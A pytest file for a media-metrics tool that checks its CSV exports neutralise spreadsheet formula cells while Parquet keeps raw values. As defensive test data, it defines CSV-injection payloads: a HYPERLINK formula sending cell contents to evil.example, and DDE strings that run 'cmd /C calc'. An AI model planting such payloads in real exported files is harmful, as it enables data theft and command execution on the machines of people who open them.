"""CSV cells a spreadsheet would run are neutralised as OWASP recommends (a leading single quote on a
text cell starting with = + - @ tab or carriage return), while UTC offsets and numbers stay data; Parquet
keeps the raw values. Covers the story report zip (the Coverage timeline's button and `mediametrics
export --report` build it with export.story_report) and the per-chart CSV button (export.table_bytes).
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from metrics import export, story_data
from metrics.coverage import timeline_table
from metrics.store import connect

SLUG = "cia-mandarin-videos-2025"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for more")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CMD, "'" + CMD),
        (SUM, "'" + SUM),
        (MINUS, "'" + MINUS),
        (TAB, "'" + TAB),
        (CR, "'" + CR),
        ("=", "'="),
        ("-", "'-"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-5 views", "'-5 views"),
        # Data, not formulas: numbers written as text and UTC offsets.
        ("-5", "-5"),
        ("-3.2", "-3.2"),
        ("+7", "+7"),
        ("-1e6", "-1e6"),
        ("-.5", "-.5"),
        ("+05:30", "+05:30"),
        ("-04:00", "-04:00"),
        ("+0930", "+0930"),
        # Nothing to neutralise.
        ("Business Standard", "Business Standard"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("", ""),
    ],
)
def test_a_text_cell_is_quoted_only_where_a_spreadsheet_would_run_it(cell: str, written: str) -> None:
    assert export.spreadsheet_text(cell) == written


def test_csv_quotes_formula_text_keeps_numbers_and_offsets_and_parquet_keeps_raw_values() -> None:
    table = pd.DataFrame(
        {
            "title": [HYPERLINK, "plain", None, CMD],
            "offset": ["+05:30", "-04:00", None, "+00:00"],
            "value": [-5.0, -3.2, float("nan"), 7.0],
            "count": [-5, 0, 3, 12],
            "as_text": ["-5", "-3.2", "@x", "x"],
            "kind": pd.Categorical([SUM, "b", "b", MINUS]),
            "at": pd.to_datetime(
                ["2025-05-03 02:32", None, "2025-05-01 00:00", "2025-05-02 00:00"], utc=True
            ),
        }
    )
    before = table.copy()
    rows = list(csv.DictReader(io.StringIO(export.table_bytes(table, "csv").decode("utf-8"))))
    assert [r["title"] for r in rows] == ["'" + HYPERLINK, "plain", "", "'" + CMD]
    assert [r["offset"] for r in rows] == ["+05:30", "-04:00", "", "+00:00"]
    assert [r["value"] for r in rows] == ["-5.0", "-3.2", "", "7.0"]
    assert [r["count"] for r in rows] == ["-5", "0", "3", "12"]
    assert [r["as_text"] for r in rows] == ["-5", "-3.2", "'@x", "x"]
    assert [r["kind"] for r in rows] == ["'" + SUM, "b", "b", "'" + MINUS]
    assert rows[0]["at"] == "2025-05-03T02:32:00+0000"
    pd.testing.assert_frame_equal(table, before)  # the caller's table is not changed

    raw = pd.read_parquet(io.BytesIO(export.table_bytes(table, "parquet")))
    assert list(raw["title"].fillna("")) == [HYPERLINK, "plain", "", CMD]
    assert list(raw["kind"]) == [SUM, "b", "b", MINUS]
    assert list(raw["count"]) == [-5, 0, 3, 12]


@pytest.fixture
def formula_db(seeded_db: Path) -> Path:
    """The seeded sample with formulas where an article's title, outlet and byline and a claim's quote were."""
    con = connect(seeded_db)
    try:
        con.execute(
            "UPDATE articles SET title = ?, outlet = ?, byline = ? WHERE id = 1", [HYPERLINK, SUM, CMD]
        )
        con.execute("UPDATE claims SET quote = ?, scope = ? WHERE id = 3", [MINUS, TAB])
    finally:
        con.close()
    return seeded_db


def read_zip_csv(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(f"data/{name}.csv").decode("utf-8"))))


def test_the_story_report_zip_neutralises_formula_cells_and_keeps_offsets(formula_db: Path) -> None:
    view = story_data.story(SLUG, formula_db)
    assert view is not None
    archive = zipfile.ZipFile(io.BytesIO(export.story_report(view, images=False)))

    articles = read_zip_csv(archive, "articles")
    first = next(r for r in articles if r["title"].endswith(HYPERLINK))
    assert (first["title"], first["outlet"], first["byline"]) == ("'" + HYPERLINK, "'" + SUM, "'" + CMD)
    assert first["published_offset"] == "+05:30"  # an offset is data
    claims = read_zip_csv(archive, "claims")
    quoted = next(r for r in claims if r["quote"].endswith(MINUS))
    assert (quoted["quote"], quoted["scope"], quoted["value"]) == ("'" + MINUS, "'" + TAB, "5000000.0")
    # No text cell of any table starts with what a spreadsheet runs, unless it is a number or an offset.
    for name in ("articles", "claims", "observations", "provenance", "coverage_volume"):
        for row in read_zip_csv(archive, name):
            for cell in row.values():
                assert export.spreadsheet_text(cell) == cell, (name, cell)

    # Parquet keeps the values as they were stored.
    raw = pd.read_parquet(io.BytesIO(archive.read("data/articles.parquet")))
    assert (raw["title"] == HYPERLINK).any() and (raw["outlet"] == SUM).any() and (raw["byline"] == CMD).any()
    raw_claims = pd.read_parquet(io.BytesIO(archive.read("data/claims.parquet")))
    assert (raw_claims["quote"] == MINUS).any() and (raw_claims["scope"] == TAB).any()


def test_the_per_chart_csv_neutralises_formula_cells(formula_db: Path) -> None:
    # widgets.chart's CSV button downloads export.table_bytes(rows, "csv") of the rows behind the
    # chart: the timeline's rows here, the claims of one metric on the Engagement claims page.
    view = story_data.story(SLUG, formula_db)
    assert view is not None
    for rows in (
        timeline_table(view.articles, "auto", "Asia/Kolkata"),
        view.claims[view.claims["metric"] == "views"],
    ):
        written = list(csv.DictReader(io.StringIO(export.table_bytes(rows, "csv").decode("utf-8"))))
        cells = [cell for row in written for cell in row.values()]
        assert not [c for c in cells if c in (HYPERLINK, SUM, CMD, MINUS, TAB)], cells
        assert any(c.startswith("'") for c in cells)
